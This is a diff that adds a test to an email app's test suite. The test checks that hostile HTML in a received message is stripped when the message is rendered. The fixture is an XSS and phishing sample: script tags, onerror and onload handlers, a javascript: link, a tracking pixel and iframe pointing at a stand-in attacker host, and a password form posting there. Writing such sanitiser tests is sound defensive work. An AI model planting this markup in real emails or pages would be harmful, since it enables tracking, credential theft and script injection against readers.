@@ -61,6 +61,31 @@ describe('one mailbox (R-027)', () => {
   })
 })
 
+it('hostile HTML of a message has no element or attribute that could run, load or restyle', async () => {
+  const threadId = await receive(
+    'Hostile',
+    `<style>*{display:none!important}body{background:red}</style>
+      <p style="position:fixed;inset:0;background:red" class="mail-row" id="main">Quiet words</p>
+      <img src="https://evil.example/pixel.gif" onerror="window.hit=1"><script>window.hit=1</script>
+      <svg onload="window.hit=1"><use href="https://evil.example/x.svg"/></svg>
+      <form action="https://evil.example"><input name="password"><button>Go</button></form>
+      <iframe src="https://evil.example"></iframe><link rel="stylesheet" href="https://evil.example/x.css">
+      <a href="javascript:window.hit=1">run</a> <a href="https://example.org/safe">safe</a>`,
+  )
+  await open(`/apps/email?thread=${threadId}`)
+  const text = await screen.findByText('Quiet words')
+  const body = text.closest<HTMLElement>('[data-message-body]')
+  if (!body) throw new Error('The text is in no message')
+  const refused = 'style, script, img, svg, form, input, button, iframe, link, [style], [class], [id]'
+  expect(body.querySelectorAll(refused)).toHaveLength(0)
+  expect(body.querySelectorAll('a[href^="javascript" i]')).toHaveLength(0)
+  expect(body.innerHTML).not.toMatch(/evil\.example|\son\w+=/)
+  const safe = within(body).getByRole('link', { name: 'safe' })
+  expect(safe).toHaveAttribute('target', '_blank')
+  expect(safe).toHaveAttribute('rel', expect.stringContaining('noopener'))
+  expect('hit' in window).toBe(false)
+})
+
 describe('a conversation', () => {
   const menuOf = async (user: UserEvent, subject: string) => {
     await user.pointer({ keys: '[MouseRight]', target: await shown(subject) })
